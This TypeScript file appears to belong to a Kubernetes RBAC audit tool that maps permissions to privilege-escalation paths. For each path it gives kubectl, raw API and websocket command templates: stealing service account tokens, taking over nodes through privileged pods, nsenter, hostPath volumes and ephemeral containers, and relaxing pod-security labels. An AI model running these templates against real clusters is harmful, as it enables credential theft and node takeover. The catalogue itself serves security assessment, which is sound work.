import { inCluster, inNamespace, type Power, type Use } from '../power.ts';
import { ACCOUNT_POD, NODE_POD, SHELL_OF_NODE, TOKEN, VOLUME_POD } from './pods.ts';
import { patch, pathIn, put, write } from './requests.ts';

const PRACTICES = 'https://kubernetes.io/docs/concepts/security/rbac-good-practices/';
const CONTROLLERS = ['deployments', 'daemonsets', 'statefulsets', 'replicasets'];

const pods = inNamespace('', ['pods'], ['create']);
const controllers = [
  inNamespace('apps', CONTROLLERS, ['create']),
  inNamespace('batch', ['jobs', 'cronjobs'], ['create']),
  inNamespace('', ['replicationcontrollers'], ['create']),
];

const UNDER_ACCOUNT = 'serviceAccountName: $ACCOUNT in its pod template';
const ON_NODE = 'nodeName: $NODE, hostPID: true and a privileged container in its pod template';
const created = (what: string) => ({
  account: [`kubectl -n $NAMESPACE create -f <${what}> # with ${UNDER_ACCOUNT}`, `cat ${TOKEN} # in its pod`],
  node: [`kubectl -n $NAMESPACE create -f <${what}> # with ${ON_NODE}`, `${SHELL_OF_NODE} # in its pod`],
});
const written = (what: string, { account, node }: { readonly account: string; readonly node: string }) => ({
  account: ([use]: readonly Use[]) => [
    `${writeWorkload(use!, what)} # with ${account}`,
    `cat ${TOKEN} # in its pod`,
  ],
  node: ([use]: readonly Use[]) => [
    `${writeWorkload(use!, what)} # with ${node}`,
    `${SHELL_OF_NODE} # in its pod`,
  ],
});
const writeWorkload = (use: Use, what: string) =>
  write(use, {
    create: `kubectl -n $NAMESPACE create -f <${what}>`,
    path: pathIn(use.group, use.resource, '<name>'),
    what: 'its pod template',
  });

const LABEL = '"labels":{"pod-security.kubernetes.io/enforce":"privileged"}';
const relax = ({ verb }: Use) =>
  verb === 'patch'
    ? patch('/api/v1/namespaces/$NAMESPACE', 'merge', `{"metadata":{${LABEL}}}`)
    : put(
        '/api/v1/namespaces/$NAMESPACE',
        `{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"$NAMESPACE",${LABEL}}}`,
      );

/** A pod of one's own, or a workload where only those can be created. */
const onNode =
  (row: number, first: readonly string[] | ((uses: readonly Use[]) => readonly string[]), pod: string) =>
  (uses: readonly Use[]) => [
    ...(typeof first === 'function' ? first(uses) : first),
    uses[row]?.resource === 'pods'
      ? pod
      : `kubectl -n $NAMESPACE create -f <workload> # with the pod of: ${pod}`,
  ];

const NEW_IMAGE = '{"spec":{"containers":[{"name":"<container>","image":"<image>"}]}}';
const changeImage = ({ verb }: Use) =>
  verb === 'patch'
    ? patch(pathIn('', 'pods', '$NAME'), 'strategic', NEW_IMAGE)
    : put(pathIn('', 'pods', '$NAME'), '<the whole pod with another image>');

const addContainer = ({ verb }: Use, container: string) => {
  const path = `${pathIn('', 'pods', '$NAME')}/ephemeralcontainers`;
  const spec = `"spec":{"ephemeralContainers":[{"name":"probe","image":"<image>",${container}}]}`;
  return verb === 'patch'
    ? patch(path, 'strategic', `{${spec}}`)
    : // All but the ephemeral containers is taken from the pod that there is.
      put(path, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"$NAME"},${spec}}`);
};

const websocket = (url: string) =>
  `websocat -H 'Authorization: Bearer <token>' --protocol v4.channel.k8s.io 'wss://<server>${url}'`;
const READ_TOKEN = `command=cat&command=${TOKEN}`;
const viaKubelet = ({ verb }: Use, command: readonly string[]) => {
  const path = (endpoint: string) => `/api/v1/nodes/$HOST/proxy/${endpoint}/$NAMESPACE/$NAME/<container>`;
  // A POST to /run answers with the output; a GET has to be a websocket.
  return verb === 'create'
    ? `kubectl create --raw '${path('run')}?cmd=${command.join('%20')}' -f /dev/null`
    : websocket(`${path('exec')}?output=1&${command.map((word) => `command=${word}`).join('&')}`);
};

const byGet = ({ resource }: Use, command: string) => {
  const pod = pathIn('', 'pods', '$NAME');
  return resource === 'pods/attach'
    ? `${websocket(`${pod}/attach?stdin=1&stdout=1`)} # to a shell`
    : websocket(`${pod}/exec?stdout=1&${command}`);
};

/** Running code: in pods of one's own, in those of others, on nodes. */
export const WORKLOAD_POWERS = [
  {
    id: 'create-pod',
    needs: [[pods]],
    gives: 'pods',
    certainty: 'proven',
    commands: { account: [ACCOUNT_POD], node: [NODE_POD] },
    source: `${PRACTICES}#workload-creation`,
  },
  {
    id: 'create-workload',
    needs: [controllers],
    gives: 'pods',
    certainty: 'proven',
    commands: created('workload'),
    source: `${PRACTICES}#workload-creation`,
  },
  {
    id: 'change-workload',
    needs: [
      [
        inNamespace('apps', CONTROLLERS, ['patch', 'update']),
        inNamespace('batch', ['cronjobs'], ['patch', 'update']),
        inNamespace('', ['replicationcontrollers'], ['patch', 'update']),
      ],
    ],
    gives: 'changed-workloads',
    certainty: 'proven',
    commands: written('workload', { account: UNDER_ACCOUNT, node: ON_NODE }),
    source: `${PRACTICES}#workload-creation`,
  },
  {
    id: 'custom-workload',
    needs: [
      [
        inNamespace('argoproj.io', ['workflows', 'cronworkflows', 'rollouts'], ['create', 'patch', 'update']),
        inNamespace('tekton.dev', ['taskruns', 'pipelineruns'], ['create']),
        inNamespace('serving.knative.dev', ['services', 'configurations'], ['create', 'patch', 'update']),
        inNamespace('batch.volcano.sh', ['jobs'], ['create']),
        inNamespace('kubeflow.org', ['pytorchjobs', 'tfjobs', 'mpijobs', 'notebooks'], ['create']),
        inNamespace('ray.io', ['rayclusters', 'rayjobs', 'rayservices'], ['create', 'patch', 'update']),
        inNamespace('keda.sh', ['scaledjobs'], ['create', 'patch', 'update']),
        inNamespace(
          'monitoring.coreos.com',
          ['prometheuses', 'alertmanagers'],
          ['create', 'patch', 'update'],
        ),
      ],
    ],
    gives: 'custom-workloads',
    // What pods come of a custom resource is up to its controller.
    certainty: 'possible',
    commands: written('custom-resource', {
      account: 'the service account $ACCOUNT for its pods',
      node: ON_NODE,
    }),
    source: `${PRACTICES}#workload-creation`,
  },
  {
    id: 'change-pod',
    needs: [[inNamespace('', ['pods'], ['patch', 'update'])]],
    gives: 'code',
    certainty: 'proven',
    commands: {
      account: ([use]) => [changeImage(use!), `cat ${TOKEN} # in the pod, by the new image`],
      node: ([use]) => [changeImage(use!), `${SHELL_OF_NODE} # in the pod, by the new image`],
    },
    source: 'https://kubernetes.io/docs/concepts/workloads/pods/#pod-update-and-replacement',
  },
  {
    id: 'exec',
    needs: [[inNamespace('', ['pods/exec'], ['create'])]],
    gives: 'code',
    certainty: 'proven',
    commands: {
      account: [`kubectl -n $NAMESPACE exec $NAME -- cat ${TOKEN}`],
      node: ['kubectl -n $NAMESPACE exec -it $NAME -- sh'],
    },
    source: 'https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/',
  },
  {
    id: 'exec-by-get',
    needs: [[inNamespace('', ['pods/exec', 'pods/attach'], ['get'])]],
    gives: 'code',
    // v1.35 and later ask for create as well (AuthorizePodWebsocketUpgradeCreatePermission).
    certainty: 'possible',
    commands: {
      account: ([use]) => [byGet(use!, READ_TOKEN)],
      node: ([use]) => [byGet(use!, 'stdin=1&command=sh')],
    },
    source: 'kubernetes/kubernetes issue 133515',
  },
  {
    id: 'attach',
    needs: [[inNamespace('', ['pods/attach'], ['create'])]],
    gives: 'code',
    // A process that reads no commands takes none.
    certainty: 'possible',
    commands: {
      account: ['kubectl -n $NAMESPACE attach -it $NAME'],
      node: ['kubectl -n $NAMESPACE attach -it $NAME'],
    },
    source: 'https://kubernetes.io/docs/reference/kubectl/generated/kubectl_attach/',
  },
  {
    id: 'debug',
    needs: [[inNamespace('', ['pods/ephemeralcontainers'], ['patch', 'update'])]],
    gives: 'debugged-code',
    certainty: 'proven',
    commands: {
      account: ([use]) => [
        addContainer(use!, `"targetContainerName":"<container>","command":["cat","/proc/1/root${TOKEN}"]`),
        'kubectl -n $NAMESPACE logs $NAME -c probe',
      ],
      node: ([use]) => [
        addContainer(use!, '"stdin":true,"tty":true,"securityContext":{"privileged":true}'),
        'kubectl -n $NAMESPACE attach -it $NAME -c probe',
      ],
    },
    source: 'https://kubernetes.io/docs/concepts/workloads/pods/ephemeral-containers/',
  },
  {
    id: 'node-proxy',
    // The kubelet takes a websocket, and with it commands, for a GET.
    needs: [[inCluster('', ['nodes/proxy'], ['get', 'create'])]],
    gives: 'node-code',
    certainty: 'proven',
    commands: {
      account: ([use]) => [viaKubelet(use!, ['cat', TOKEN])],
      node: ([use]) => [
        `${viaKubelet(use!, ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'id'])} # in a privileged container`,
      ],
    },
    source: `${PRACTICES}#access-to-proxy-subresource-of-nodes`,
  },
  {
    id: 'host-path-volume',
    needs: [
      [pods, ...controllers],
      [inNamespace('', ['persistentvolumeclaims'], ['create'])],
      [inCluster('', ['persistentvolumes'], ['create'])],
    ],
    gives: 'volumes',
    certainty: 'proven',
    commands: {
      node: onNode(
        0,
        ['kubectl create -f <volume> # a PersistentVolume with hostPath: /, and a claim to it in $NAMESPACE'],
        VOLUME_POD,
      ),
    },
    source: `${PRACTICES}#persistent-volume-creation`,
  },
  {
    id: 'relax-pod-security',
    needs: [[inNamespace('', ['namespaces'], ['patch', 'update'])], [pods, ...controllers]],
    gives: 'unguarded-pods',
    certainty: 'proven',
    commands: {
      node: onNode(1, ([use]) => [relax(use!)], NODE_POD),
    },
    source: `${PRACTICES}#namespace-modification`,
  },
  {
    id: 'port-forward',
    needs: [[inNamespace('', ['pods/portforward'], ['create', 'get'])]],
    gives: { effect: 'network-reach' },
    certainty: 'possible',
    commands: { target: ['kubectl -n $NAMESPACE port-forward <pod> <port>'] },
    source: 'https://kubernetes.io/docs/reference/kubectl/generated/kubectl_port-forward/',
  },
  {
    id: 'proxy',
    needs: [
      [inNamespace('', ['pods/proxy', 'services/proxy'], ['get', 'create', 'patch', 'update', 'delete'])],
    ],
    gives: { effect: 'network-reach' },
    certainty: 'possible',
    commands: { target: ['kubectl get --raw /api/v1/namespaces/$NAMESPACE/services/<service>/proxy/'] },
    source: 'https://kubernetes.io/docs/tasks/access-application-cluster/access-cluster-services/',
  },
  {
    id: 'read-logs',
    needs: [[inNamespace('', ['pods/log'], ['get'])]],
    gives: { effect: 'disclosure' },
    certainty: 'possible',
    commands: { target: ['kubectl -n $NAMESPACE logs <pod>'] },
    source: 'https://kubernetes.io/docs/reference/kubectl/generated/kubectl_logs/',
  },
  {
    id: 'node-files',
    needs: [
      [inCluster('', ['nodes/log', 'nodes/checkpoint', 'nodes/configz', 'nodes/pods'], ['get', 'create'])],
    ],
    gives: { effect: 'disclosure' },
    certainty: 'possible',
    commands: { target: ['kubectl get --raw /api/v1/nodes/<node>/proxy/logs/'] },
    source: 'https://kubernetes.io/docs/reference/access-authn-authz/kubelet-authn-authz/',
  },
] as const satisfies readonly Power[];
